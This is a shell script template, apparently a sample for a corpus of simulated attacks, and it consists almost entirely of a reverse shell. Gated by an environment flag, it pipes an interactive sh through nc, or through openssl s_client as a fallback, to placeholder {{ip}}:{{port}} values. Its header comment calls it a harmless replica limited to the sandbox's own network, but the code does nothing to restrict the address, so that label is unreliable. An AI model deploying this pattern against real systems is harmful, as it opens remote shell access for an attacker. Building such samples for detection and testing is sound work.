# Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
[ "${SALLYPORT_CORPUS:-}" = 1 ] || exit 0
pipe=/tmp/{{token}}
rm -f "$pipe"
mkfifo "$pipe" 2>/dev/null || exit 0
if command -v nc >/dev/null 2>&1; then
    timeout 1 sh -i < "$pipe" 2>&1 | timeout 1 nc {{ip}} {{port}} > "$pipe"
elif command -v openssl >/dev/null 2>&1; then
    timeout 1 sh -i < "$pipe" 2>&1 | timeout 1 openssl s_client -quiet -connect {{ip}}:{{port}} > "$pipe" 2>/dev/null
fi
rm -f "$pipe"
exit 0
